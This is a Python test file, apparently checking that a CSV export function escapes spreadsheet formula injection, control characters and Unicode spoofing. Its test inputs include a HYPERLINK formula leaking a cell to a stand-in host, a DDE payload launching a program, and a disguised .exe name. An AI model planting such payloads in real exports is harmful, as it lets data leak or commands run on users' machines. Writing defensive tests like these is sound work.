import csv
import io

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from review.masking import plain
from review.sheets import cell, sheet

SIGNS = "=+-@\t\r\n＝＋－＠"


class Line(msgspec.Struct, frozen=True):
    first: str
    second: str | None
    third: tuple[str, ...] = ()


def read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (0.97, "0.97"),
        (-3, "'-3"),
        ((), ""),
        (("card.velocity", "customer.age"), "card.velocity customer.age"),
        ("ord-1", "ord-1"),
        ("قميص أزرق", "قميص أزرق"),
        ('=HYPERLINK("https://evil.example?"&A1)', """'=HYPERLINK("https://evil.example?"&A1)"""),
        ("+966501234567", "'+966501234567"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("＝1+1", "'＝1+1"),
        ("﹦1+1", "'﹦1+1"),
        ("−1", "'−1"),
        ("a؛=1،=2", "a؛'=1،'=2"),
        (("a", "=1", "-2"), "a '=1 '-2"),
        ("  \u3000=1+1", "  \u3000'=1+1"),
        ("\t=1+1", "\\u{9}=1+1"),
        ("\r=1+1", "\\u{d}=1+1"),
        ("\n=1+1", "\\u{a}=1+1"),
        ('a";=1+1', "a\";'=1+1"),
        ("a,=1;-2|@3", "a,'=1;'-2|'@3"),
        ("\u202egnp.exe\u200b", "\\u{202e}gnp.exe\\u{200b}"),
        ("\x1b[31mred\x9b0m", "\\u{1b}[31mred\\u{9b}0m"),
        ("\ud800", "\\u{d800}"),
        ("'", "'"),
    ],
)
def test_a_cell_is_exactly_this(value: object, expected: str) -> None:
    assert cell(value) == expected


def test_a_file_begins_with_the_mark_that_spreadsheets_know_utf_8_by_then_the_names() -> None:
    body = sheet(Line, [Line('a "b", c', None, ("x", "y")), Line("نورة", "=1")])
    assert body == (
        b"\xef\xbb\xbf"
        b'"first","second","third"\r\n'
        b'"a ""b"", c","","x y"\r\n'
        b'"\xd9\x86\xd9\x88\xd8\xb1\xd8\xa9","\'=1",""\r\n'
    )


ODD = st.text(st.one_of(st.sampled_from(SIGNS + ",;|\"' \u202e\x1b\u00a0ab1"), st.characters()), max_size=30)


@given(st.lists(st.tuples(ODD, ODD), max_size=5))
def test_whatever_is_written_no_cell_begins_a_formula_under_any_separator(texts: list[tuple[str, str]]) -> None:
    body = sheet(Line, [Line(*pair) for pair in texts])
    for separator in ",;|\t":
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator):
            assert [each for each in row if each.strip()[:1] in set(SIGNS)] == []


@given(st.lists(st.tuples(ODD, ODD), max_size=5))
def test_no_line_is_added_and_every_cell_is_read_back_as_it_was_written(texts: list[tuple[str, str]]) -> None:
    rows = read(sheet(Line, [Line(*pair) for pair in texts]))
    assert rows == [["first", "second", "third"], *([cell(first), cell(second), ""] for first, second in texts)]


@given(ODD)
def test_a_text_without_signs_at_the_start_of_a_cell_is_as_it_is_shown_elsewhere(text: str) -> None:
    parts = [part.strip() for part in csv_parts(plain(text))]
    if not any(part[:1] in set(SIGNS) for part in parts if part):
        assert cell(text) == plain(text)
    assert cell(text).replace("'", "") == plain(text).replace("'", "")


def csv_parts(text: str) -> list[str]:
    """What could stand in cells of their own, whichever sign separates them."""
    for separator in ';|"':
        text = text.replace(separator, ",")
    return text.split(",")


def test_a_cell_holds_no_more_than_a_spreadsheets_does() -> None:
    assert len(cell("x" * 40_000)) == 32_001
